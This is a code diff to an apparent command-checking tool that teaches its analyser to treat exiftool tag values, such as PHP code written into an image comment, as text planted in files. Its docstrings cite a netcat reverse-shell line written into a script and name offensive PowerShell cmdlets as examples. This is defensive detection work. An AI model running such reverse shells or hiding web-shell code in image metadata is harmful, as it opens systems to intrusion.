@@ -202,7 +202,9 @@ _CMDLET = lazy_re(
 """A cmdlet's name as PowerShell writes it: an approved verb, capitalised, and a capitalised noun
 (`Get-DomainUser`, `Invoke-PassTheCert`). No POSIX program is named so (theirs are lower case:
 `add-apt-repository`, `update-alternatives`)."""
-_TEXT_INTO_FILES = frozenset({"tee", "sponge", "tee-object", "out-file", "set-content", "add-content"})
+_TEXT_INTO_FILES = frozenset(
+    {"tee", "sponge", "tee-object", "out-file", "set-content", "add-content", "exiftool"}
+)
 """Programs that write the text they are given into the files they name (see `_piped_into_files`)."""
 _VALUE_WRITERS = frozenset({"set-content", "add-content"})
 """Cmdlets also given their text by `-Value` (or as the word after the path)."""
@@ -1660,7 +1662,13 @@ class Evaluation(RunsOtherCode, WordChecks):
     def _piped_into_files(self, name: str, argv: list[Arg], stdin: Stdin | None, frame: Frame) -> None:
         """`echo 'nc -e /bin/sh h 4444' | tee -a x.sh`, `'…' | Out-File x.ps1`, `Set-Content x.ps1 -Value
         '…'`: text known before the line runs, written into files by a program, is judged as a redirect's
-        is (see `_written_script`)."""
+        is (see `_written_script`); exiftool's tag values as what any file is given to hold."""
+        if name == "exiftool":
+            # `exiftool -Comment='<?php …?>' x.png`: each tag's value is text the files now hold
+            values = [a.text.partition("=")[2] for a in argv[1:] if a.text[:1] == "-" and "=" in a.text]
+            if values:
+                self.payload(FILE_TEXT, "\n".join(values).replace(DYN, _RUN_TIME_PART), frame, argv)
+            return
         text = _given_value(argv) if name in _VALUE_WRITERS else None
         if text is None and stdin is not None and stdin.feed is not None:
             text = stdin.text()
